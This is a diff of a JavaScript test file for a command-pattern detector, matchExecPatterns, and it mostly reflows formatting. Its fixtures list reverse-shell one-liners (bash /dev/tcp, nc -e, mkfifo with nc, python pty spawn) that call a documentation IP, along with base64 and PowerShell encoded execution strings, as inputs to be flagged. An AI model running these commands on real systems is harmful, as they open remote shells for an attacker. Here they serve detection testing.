@@ -8,7 +8,7 @@ describe('matchExecPatterns', () => {
     'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
     'nc -e /bin/sh 192.0.2.7 4444',
     'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 9 > /tmp/f',
-    "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+    'python3 -c \'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")\'',
     'powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A',
     'echo ZWNobyBoaQ== | base64 -d | sh',
     "exec(base64.b64decode('aW1wb3J0IG9z'))",
@@ -27,7 +27,19 @@ describe('matchExecPatterns', () => {
     expect(matchExecPatterns(command)).not.toEqual([]);
   });
 
-  it.each(['ls -la | grep notes', 'rm -rf ./build', 'rm -rf /tmp/build-1', 'curl https://example.com/data.json | jq .total', 'npm test && npm run build', 'python3 report.py', 'echo aGk= | base64 -d', 'chmod 644 /srv/a', 'git log --oneline | head', 'import socket; print(socket.gethostname())', 'docker exec web ls'])('leaves %j alone', (command) => {
+  it.each([
+    'ls -la | grep notes',
+    'rm -rf ./build',
+    'rm -rf /tmp/build-1',
+    'curl https://example.com/data.json | jq .total',
+    'npm test && npm run build',
+    'python3 report.py',
+    'echo aGk= | base64 -d',
+    'chmod 644 /srv/a',
+    'git log --oneline | head',
+    'import socket; print(socket.gethostname())',
+    'docker exec web ls',
+  ])('leaves %j alone', (command) => {
     expect(matchExecPatterns(command)).toEqual([]);
   });
 
@@ -38,7 +50,12 @@ describe('matchExecPatterns', () => {
 
   it('uses bounded quantifiers only', () => {
     for (const { pattern } of [...EXEC_PATTERNS, { pattern: SMUGGLED_COMMAND }]) {
-      expect(pattern.source.replace(/\\./g, '').replace(/\[\^\]/g, 'c').replace(/\[[^\]]*\]/g, 'c')).not.toMatch(/[*+]|,\}/);
+      expect(
+        pattern.source
+          .replace(/\\./g, '')
+          .replace(/\[\^\]/g, 'c')
+          .replace(/\[[^\]]*\]/g, 'c'),
+      ).not.toMatch(/[*+]|,\}/);
     }
   });
 });
